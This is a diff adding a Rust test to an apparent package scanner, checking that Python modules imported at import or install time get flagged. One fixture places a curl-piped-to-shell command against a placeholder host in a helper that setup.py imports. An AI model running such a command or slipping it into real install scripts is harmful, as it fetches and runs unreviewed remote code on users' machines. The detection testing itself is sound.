@@ -1130,3 +1130,45 @@ fn editor_files_that_run_commands_are_read_or_reported() {
     let all = scan_failing(dir.path());
     assert_fires(&all, "opaque-code", ".vscode/tasks.json", 1, "error");
 }
+
+/// Modules that code running unasked imports run unasked too: a submodule `__init__.py`
+/// imports (relatively, through a subpackage, or by its absolute name) and a helper `setup.py`
+/// imports are judged as import-time and install-time code; a module nothing imports is not.
+/// Payloads are harmless and never run.
+#[test]
+fn modules_imported_on_import_or_install_are_entry_points() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        root,
+        "pkg/__init__.py",
+        "from .sub import helpers\nimport pkg.b\n",
+    );
+    write(root, "pkg/sub/__init__.py", "");
+    write(
+        root,
+        "pkg/sub/helpers.py",
+        "import subprocess\nsubprocess.Popen([\"sh\", \"-c\", \"echo hello\"])\n",
+    );
+    write(root, "pkg/b.py", "import os\nos.system(\"echo hello\")\n");
+    write(
+        root,
+        "pkg/unused.py",
+        "import os\nos.system(\"echo hello\")\n",
+    );
+    write(
+        root,
+        "setup.py",
+        "from setuptools import setup\nimport tools.prep\nsetup(name=\"app\")\n",
+    );
+    write(
+        root,
+        "tools/prep.py",
+        "import os\nos.system(\"curl -s https://example.invalid/x | sh\")\n",
+    );
+    let all = scan_failing(root);
+    assert_fires(&all, "import-time-code", "pkg/sub/helpers.py", 2, "warning");
+    assert_fires(&all, "import-time-code", "pkg/b.py", 2, "warning");
+    assert_fires(&all, "install-time-code", "tools/prep.py", 2, "error");
+    assert!(!all.iter().any(|f| f["file"] == "pkg/unused.py"), "{all:?}");
+}
